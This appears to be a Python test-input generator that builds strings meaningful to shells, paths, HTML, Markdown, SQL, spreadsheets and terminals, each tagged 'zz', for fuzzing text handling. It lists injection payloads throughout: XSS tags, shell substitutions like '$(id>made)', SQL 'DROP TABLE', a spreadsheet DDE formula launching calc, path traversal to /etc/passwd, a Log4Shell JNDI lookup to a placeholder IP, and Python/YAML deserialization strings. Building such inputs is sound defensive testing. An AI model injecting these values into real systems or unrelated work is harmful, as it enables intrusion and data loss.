"""Texts that mean something to a shell, a path, HTML, Markdown, SQL, a spreadsheet, a terminal or a formatter.

Every text holds the mark `zz`, so that none is valid by accident, and is the same for the same number each time.
"""

import random

MARK = "zz"
HTML = (
    "<script>window.hacked=1</script>",
    "<img src=x onerror=window.hacked=1>",
    "<svg onload=window.hacked=1>",
    "<iframe src=javascript:window.hacked=1>",
    "<details open ontoggle=window.hacked=1>",
    '"onmouseover="window.hacked=1',
    "' autofocus onfocus='window.hacked=1",
    "javascript:window.hacked=1",
    *("</td>", "</title>", "</style>", "</script>", "<!--", "-->", "<b>", "&lt;b&gt;", "&#60;b&#62;"),
)
MARKDOWN = (
    "](javascript:window.hacked=1)",
    "![x](http://192.0.2.1/x.png)",
    "[x](http://192.0.2.1)",
    "<http://192.0.2.1>",
    *("http://192.0.2.1/x", "www.example.com", "a@example.com", "[^1]", "$x$", "$$", "{{7*7}}", "{%x%}"),
    *("|", "\\|", "\\", "`", "```", "~~~", "***", "__", "# ", "> ", "- ", "1. ", "---", "==="),
)
FORMULAS = ("=1+1", "=cmd|' /C calc'!A0", "+1", "-1", "@SUM(A1)", "\t=1", ";=1", ",=1", "＝1", "%s%n", "%d", "{0}")
PATHS = ("../", "../../", "/", "/etc/passwd", "..\\", "~", "~root", "C:", "CON", ".", "..", "*", "?", "%2e%2e%2f")
CODE = (
    *("$HOME", "$(id>made)", "`id>made`", ";id>made", "&&id>made", "|id>made", '"', "'", "' OR 1=1 --"),
    *("'; DROP TABLE runs; --", "${jndi:ldap://192.0.2.1/x}", "{x.__class__}", "__import__('os').system('id>made')"),
    *("!!python/object/apply:os.system [id]", "null", "NaN", "1e999", "[" * 40, "{}", "--", "--set=x", "-", ",", ":"),
)
UNSHOWN = (
    *("\x1b[2J", "\x1b]0;x\x07", "\x07", "\x08", "\r", "\n", "\t", "\x7f", "\x85", "\u2028", "\u202e", "\u200f"),
    *("\u200b", "\ufeff", "\U000e0041"),
)
SHOWN = ("é", "e\u0301", "鳥", "😀", "ﷺ", "١", "ſ", "\ufffd", "x" * 60, " ")
FRAGMENTS = (*HTML, *MARKDOWN, *FORMULAS, *PATHS, *CODE, *UNSHOWN, *SHOWN)


def texts(count: int, seed: int = 0, printable: bool = False, longest: int = 1000) -> list[str]:
    """So many different texts: first every fragment alone, then mixtures. `printable` leaves out what has no shape."""
    draw = random.Random(seed)
    found: dict[str, None] = {}
    for number in range(100 * count):
        parts = [FRAGMENTS[number]] if number < len(FRAGMENTS) else draw.choices(FRAGMENTS, k=draw.randint(2, 5))
        place = draw.randint(0, len(parts))
        text = "".join([*parts[:place], MARK, *parts[place:]])
        if len(text) <= longest and (text.isprintable() or not printable):
            found[text] = None
        if len(found) == count:
            return list(found)
    raise ValueError(f"there are not {count} such texts")
